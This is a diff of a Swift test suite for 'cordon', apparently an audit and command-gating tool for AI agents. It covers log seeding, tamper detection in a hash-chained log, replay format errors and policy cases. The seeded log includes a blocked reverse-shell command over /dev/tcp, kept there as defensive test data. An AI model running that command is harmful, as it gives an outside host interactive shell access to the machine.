@@ -2,6 +2,7 @@
 import CordonPolicy
 import Glibc
 import Testing
+
 @testable import CordonAudit
 
 func cordon(_ args: [String], env: [String: String] = [:]) -> ProcessResult {
@@ -11,9 +12,13 @@ func cordon(_ args: [String], env: [String: String] = [:]) -> ProcessResult {
 /// A log with a known mix: agent-a tries a reverse shell (blocked) and lists files; agent-b asks
 /// for an install (approval).
 func seedLog(_ dir: String) {
-    _ = cordon(["log", "append", "--log-dir", dir, "--decision", "allow", "--score", "3", "--agent", "agent-a", "--cmd", "ls -la"])
     _ = cordon([
-        "log", "append", "--log-dir", dir, "--decision", "block", "--score", "92", "--agent", "agent-a", "--rule", "reverse-shell",
+        "log", "append", "--log-dir", dir, "--decision", "allow", "--score", "3", "--agent", "agent-a", "--cmd",
+        "ls -la",
+    ])
+    _ = cordon([
+        "log", "append", "--log-dir", dir, "--decision", "block", "--score", "92", "--agent", "agent-a", "--rule",
+        "reverse-shell",
         "--reason", "reverse shell via /dev/tcp", "--cmd", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
     ])
     _ = cordon([
@@ -67,7 +72,9 @@ struct CLITests {
     func cordonHome() throws {
         let dir = makeTempDir()
         defer { removeTree(dir) }
-        #expect(cordon(["log", "append", "--decision", "allow", "--cmd", "true"], env: ["CORDON_HOME": dir + "/home"]).status == 0)
+        #expect(
+            cordon(["log", "append", "--decision", "allow", "--cmd", "true"], env: ["CORDON_HOME": dir + "/home"])
+                .status == 0)
         #expect(FileIO.exists(dir + "/home/gate.log"))
     }
 
@@ -80,11 +87,15 @@ struct CLITests {
         #expect(ok.status == 0)
         #expect(ok.stdout == "ok: 3 lines in 1 file, chain intact\n")
         var lines = Array(readText(dir + "/gate.log").utf8).split(separator: 0x0a).map(Array.init)
-        lines[1] = Array(String(decoding: lines[1], as: UTF8.self).replacingFirst("decision=block", "decision=allow").utf8)
+        lines[1] = Array(
+            String(decoding: lines[1], as: UTF8.self).replacingFirst("decision=block", "decision=allow").utf8)
         saveLines(dir + "/gate.log", lines)
         let bad = cordon(["log", "verify", dir + "/gate.log"])
         #expect(bad.status == 1)
-        #expect(bad.stderr == "cordon: error: \(dir)/gate.log:2: chain mismatch: this line was edited, or the line before it was dropped\n")
+        #expect(
+            bad.stderr
+                == "cordon: error: \(dir)/gate.log:2: chain mismatch: this line was edited, or the line before it was dropped\n"
+        )
     }
 
     @Test("an unwritable log directory fails closed with exit 125 naming the directory")
@@ -123,7 +134,8 @@ struct CLITests {
         let neither = cordon(["replay", "/etc/hostname"])
         #expect(neither.status == 65)
         #expect(neither.stderr.contains("/etc/hostname:1: neither a JSON trace nor a gate.log"))
-        writeText(dir + "/v9.jsonl", #"{"v":9,"ts":"2026-11-21T12:00:00.000Z","run":"r-1","seq":0,"type":"decision"}"# + "\n")
+        writeText(
+            dir + "/v9.jsonl", #"{"v":9,"ts":"2026-11-21T12:00:00.000Z","run":"r-1","seq":0,"type":"decision"}"# + "\n")
         let v9 = cordon(["replay", dir + "/v9.jsonl"])
         #expect(v9.status == 65)
         #expect(v9.stderr.contains("\(dir)/v9.jsonl:1: unknown trace version v=9; this cordon reads v=1"))
@@ -146,7 +158,9 @@ struct CLITests {
     func policyTests() throws {
         let dir = makeTempDir()
         defer { removeTree(dir) }
-        writeText(dir + "/t.yaml", """
+        writeText(
+            dir + "/t.yaml",
+            """
             policy: default
             cases:
               - command: ls -la
